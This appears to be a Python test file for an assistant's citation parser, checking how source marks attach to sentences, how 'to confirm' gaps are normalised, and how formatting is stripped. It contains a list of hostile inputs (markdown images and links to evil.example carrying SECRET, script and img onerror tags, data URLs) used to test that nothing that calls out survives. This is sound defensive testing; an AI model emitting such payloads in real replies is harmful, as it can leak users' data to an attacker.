"""The grammar of marks, gaps and what is taken out of a reply."""

import string

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.citations import parse_marked, render_marked, so_far, without_marks
from assistant.drafts.texts import GAP, gaps_in
from assistant.plain_text import cleaned
from assistant.sources import Evidence, Source
from assistant.support import best_spans

SUMMARY = (
    "The force answered 91.4 per cent of 999 calls within ten seconds in the year to 31 March 2025. "
    "Of the 60 delayed incidents that we reviewed, supervisors had looked at 14. "
    "Officers at Pennyford told us that the new desk helps them."
)
EVIDENCE = Evidence(
    (
        Source(
            "report:particulars and summary",
            "R1",
            "report",
            "the report",
            {
                "inspection.title": "PEEL 2025–27: Averndale",
                "inspection.published": "2025-06-03",
                "inspection.summary": SUMMARY,
            },
        ),
        Source(
            "report:recommendation 1", "R2", "report", "recommendation 1", {"recommendations.0.text": "Review calls."}
        ),
        Source(
            "F1", "F1", "fact", "told to us", {"text": "mixed", "from": "Ines Talgarth", "clearance": "publication"}
        ),
        Source(
            "F12", "F12", "fact", "told to us", {"text": "See www.averndale.example/desk for the rota.", "from": "DCC"}
        ),
    )
)


def marks(reply: str) -> list[tuple[str, list[str]]]:
    parsed = parse_marked(reply, EVIDENCE)
    return [
        (parsed.text[s.start : s.end], list(dict.fromkeys(span.mark for span in s.sources))) for s in parsed.sentences
    ]


TABLE = {
    "after the full stop": ("It fell. [R1]", [("It fell.", ["R1"])]),
    "before the full stop": ("It fell [R1].", [("It fell.", ["R1"])]),
    "glued to it": ("It fell.[R1] It rose.[R2]", [("It fell.", ["R1"]), ("It rose.", ["R2"])]),
    "several": ("It fell. [F1][R2]", [("It fell.", ["F1", "R2"])]),
    "with a comma": ("It fell. [F1, R2]", [("It fell.", ["F1", "R2"])]),
    "lower case and spaces": ("It fell. [ r1 ; f1 ]", [("It fell.", ["R1", "F1"])]),
    "twice the same": ("It [R1] fell. [R1]", [("It fell.", ["R1"])]),
    "at the start of its line": (
        "[R1] It fell.\n\n[R2][F1] It rose.",
        [("It fell.", ["R1"]), ("It rose.", ["R2", "F1"])],
    ),
    "alone on a line": ("It fell.\n[R1]\n\nIt rose. [R2]", [("It fell.", ["R1"]), ("It rose.", ["R2"])]),
    "two digits": ("It fell. [F12]", [("It fell.", ["F12"])]),
    "after a gap": (
        "It fell. [R1] [force to confirm: the date.] [R2]",
        [("It fell.", ["R1"]), ("[force to confirm: the date.]", ["R2"])],
    ),
    "inside a gap": ("[force to confirm: the date [R2].]", [("[force to confirm: the date.]", ["R2"])]),
    "a sentence around a gap": (
        "The force has [force to confirm: how many] officers. [R1]",
        [("The force has", ["R1"]), ("[force to confirm: how many]", []), ("officers.", ["R1"])],
    ),
    "as a link": ("It fell. [R1](#r1)", [("It fell.", ["R1"])]),
}


@pytest.mark.parametrize("name", TABLE)
def test_a_mark_belongs_to_its_sentence(name: str) -> None:
    reply, expected = TABLE[name]
    assert marks(reply) == expected


def test_marks_that_no_source_has_are_dropped_and_reported() -> None:
    parsed = parse_marked("It fell. [R1][R99] It rose. [F2][3] Others do too. [P1, P2]", EVIDENCE)
    assert parsed.text == "It fell. It rose. Others do too."
    assert parsed.unknown == ("R99", "F2", "3")
    assert parsed.of_precedents == ("P1", "P2")
    assert [parsed.text[s.start : s.end] for s in parsed.unmarked] == ["It rose.", "Others do too."]


GAPS = {
    "[Force to confirm – the date]": "[force to confirm: the date]",
    "[FORCE TO CONFIRM: the date]": "[force to confirm: the date]",
    "[chief constable to confirm: the date]": "[force to confirm: the date]",
    "[PCC to confirm: I welcome it.]": "[commissioner to confirm: I welcome it.]",
    "[office to confirm: the [new] date]": "[office to confirm: the (new) date]",
    "[insert date here]": "[office to confirm: insert date here]",
    "[Name]": "[office to confirm: Name]",
    "[force to confirm: the date and then": "[force to confirm: the date and then]",
    "[force to confirm: ]": "[force to confirm: what is meant here]",
}


@pytest.mark.parametrize("written", GAPS)
def test_what_nearly_looks_like_a_gap_becomes_one(written: str) -> None:
    parsed = parse_marked(f"It fell. [R1] {written}\n\nIt rose. [R2]", EVIDENCE)
    assert [parsed.text[g.start : g.end] for g in gaps_in(parsed.text)] == [GAPS[written]]
    assert parsed.text.endswith("It rose.")
    assert parsed.unmarked == ()


def test_the_slice_is_the_sentence_that_supports_best_and_stands_exactly_there() -> None:
    parsed = parse_marked("Inspectors reviewed 60 delayed incidents; supervisors had looked at 14. [R1]", EVIDENCE)
    (span,) = parsed.sentences[0].sources
    assert span.text == "Of the 60 delayed incidents that we reviewed, supervisors had looked at 14."
    assert SUMMARY[span.start : span.end] == span.text
    assert (span.source_id, span.mark, span.kind) == ("report:particulars and summary", "R1", "report")


def test_a_second_slice_is_named_only_for_a_figure_or_a_name_that_the_first_has_not() -> None:
    sentence = "The report of 3 June 2025 says that 91.4 per cent of 999 calls were answered within ten seconds."
    fields = [span.field for span in best_spans(sentence, EVIDENCE["R1"])]
    assert fields == ["inspection.summary", "inspection.published"]


def test_clearance_is_never_cited() -> None:
    assert {span.field for span in best_spans("A publication by Ines Talgarth.", EVIDENCE["F1"])} == {"text", "from"}


HOSTILE = {
    "image": "It fell. ![x](https://evil.example/?d=SECRET) [R1]",
    "image by reference": "It fell. ![x][y] [R1]\n\n[y]: https://evil.example/SECRET",
    "link": "It fell [more](https://evil.example/SECRET). [R1]",
    "link with a title": 'It fell [more](https://evil.example/SECRET "see"). [R1]',
    "autolink": "It fell <https://evil.example/SECRET>. [R1]",
    "bare address": "It fell https://evil.example/SECRET. [R1]",
    "www": "It fell, see www.evil.example/SECRET. [R1]",
    "img tag": "It fell. <img src=x onerror=alert('SECRET')> [R1]",
    "img tag cut off": "It fell. [R1] <img src='https://evil.example/SECRET",
    "script": "It fell. <script>fetch('SECRET')</script> [R1]",
    "comment": "It fell. <!-- SECRET --> [R1]",
    "split tag": "It fell. <scr<script>ipt>SECRET</script> [R1]",
    "data address": "It fell data:text/html,SECRET [R1]",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_that_could_call_out_survives(name: str) -> None:
    parsed = parse_marked(HOSTILE[name], EVIDENCE)
    assert "SECRET" not in parsed.text or name == "split tag"
    assert not any(sign in parsed.text for sign in ("<", "http", "![", "]("))
    assert parsed.text.startswith("It fell")
    assert any(sentence.sources for sentence in parsed.sentences)
    assert parsed.removed


def test_an_address_that_a_source_has_stays() -> None:
    parsed = parse_marked("The rota is at www.averndale.example/desk. [F12]", EVIDENCE)
    assert parsed.text == "The rota is at www.averndale.example/desk."


def test_formatting_and_invisible_characters_go_and_the_words_stay() -> None:
    reply = (
        "## Initial response\n\n**It** fell\u200b by `5%`. [R1]\n* one [R2]\n> two [R2]\n\n***\n\n<5% is little. [R1]"
    )
    assert parse_marked(reply, EVIDENCE).text == "Initial response\n\nIt fell by 5%.\n- one\ntwo\n\n<5% is little."


def test_half_a_mark_is_never_shown_while_the_reply_comes() -> None:
    reply = "It fell. [R1][F1] It rose [force to confirm: the date] again. [R2] ![x](http://a.b/c) End. [F12]"
    whole = parse_marked(reply, EVIDENCE).text
    for length in range(len(reply) + 1):
        shown = so_far(reply[:length])
        assert not any(sign in GAP.sub("", shown) for sign in "[]"), shown
        assert "http" not in shown
        assert whole.startswith(shown.rstrip()), (shown, whole)


_WORDS = st.sampled_from(
    ["It", "fell", "by", "5%", "in", "May", "2025", "Dr", "e.g.", "“yes”", "the", "force", "No.", "é", "1,204", "ok?"]
)
_PIECES = st.one_of(
    _WORDS,
    st.sampled_from(
        ["[R1]", "[F1][R2]", "[R9]", "[P1]", "[force to confirm: x]", "[office to confirm: y.]", ".", "\n\n"]
    ),
    st.sampled_from(["[", "]", "**", "[r1", "<b>", "![a](b)", "[a](b)", "# ", "- ", "[name]", "\u200b", "(", ")"]),
)
_REPLIES = st.lists(_PIECES, max_size=25).map(" ".join)
# Marks at the start of a line may uncover formatting ("[R1] # x"), which is settled one parse later.
_PLAIN_REPLIES = st.lists(_PIECES.filter(lambda piece: piece not in ("# ", "- ", "**")), max_size=25).map(" ".join)


@settings(max_examples=400, deadline=None)
@given(_PLAIN_REPLIES)
def test_what_is_parsed_prints_and_parses_to_the_same(reply: str) -> None:
    once = parse_marked(reply, EVIDENCE)
    again = parse_marked(render_marked(once.text, once.sentences), EVIDENCE)
    assert again.text == once.text
    assert again.sentences == once.sentences
    assert again.unknown == again.of_precedents == ()


@settings(max_examples=200, deadline=None)
@given(_REPLIES)
def test_formatting_settles_after_one_more_parse(reply: str) -> None:
    once = parse_marked(reply, EVIDENCE)
    again = parse_marked(render_marked(once.text, once.sentences), EVIDENCE)
    third = parse_marked(render_marked(again.text, again.sentences), EVIDENCE)
    assert (third.text, third.sentences) == (again.text, again.sentences)


@settings(max_examples=400, deadline=None)
@given(_REPLIES)
def test_sentences_cover_everything_but_white_space_and_citations_are_exact(reply: str) -> None:
    parsed = parse_marked(reply, EVIDENCE)
    covered = set()
    for sentence in parsed.sentences:
        covered |= set(range(sentence.start, sentence.end))
        for span in sentence.sources:
            assert EVIDENCE[span.mark].fields[span.field][span.start : span.end] == span.text
    assert all(parsed.text[n].isspace() for n in range(len(parsed.text)) if n not in covered)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=string.printable + "“”’é\u200b\u202e！＜", max_size=120))
def test_cleaning_twice_changes_nothing_and_leaves_no_tag_or_image(text: str) -> None:
    plain, _ = cleaned(text)
    assert cleaned(plain)[0] == plain
    assert "](" not in plain.replace("] (", "") or "![" not in plain
    assert "\u200b" not in plain


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=200))
def test_any_text_at_all_can_be_parsed(text: str) -> None:
    parsed = parse_marked(text, EVIDENCE)
    assert without_marks(parsed.text) == parsed.text
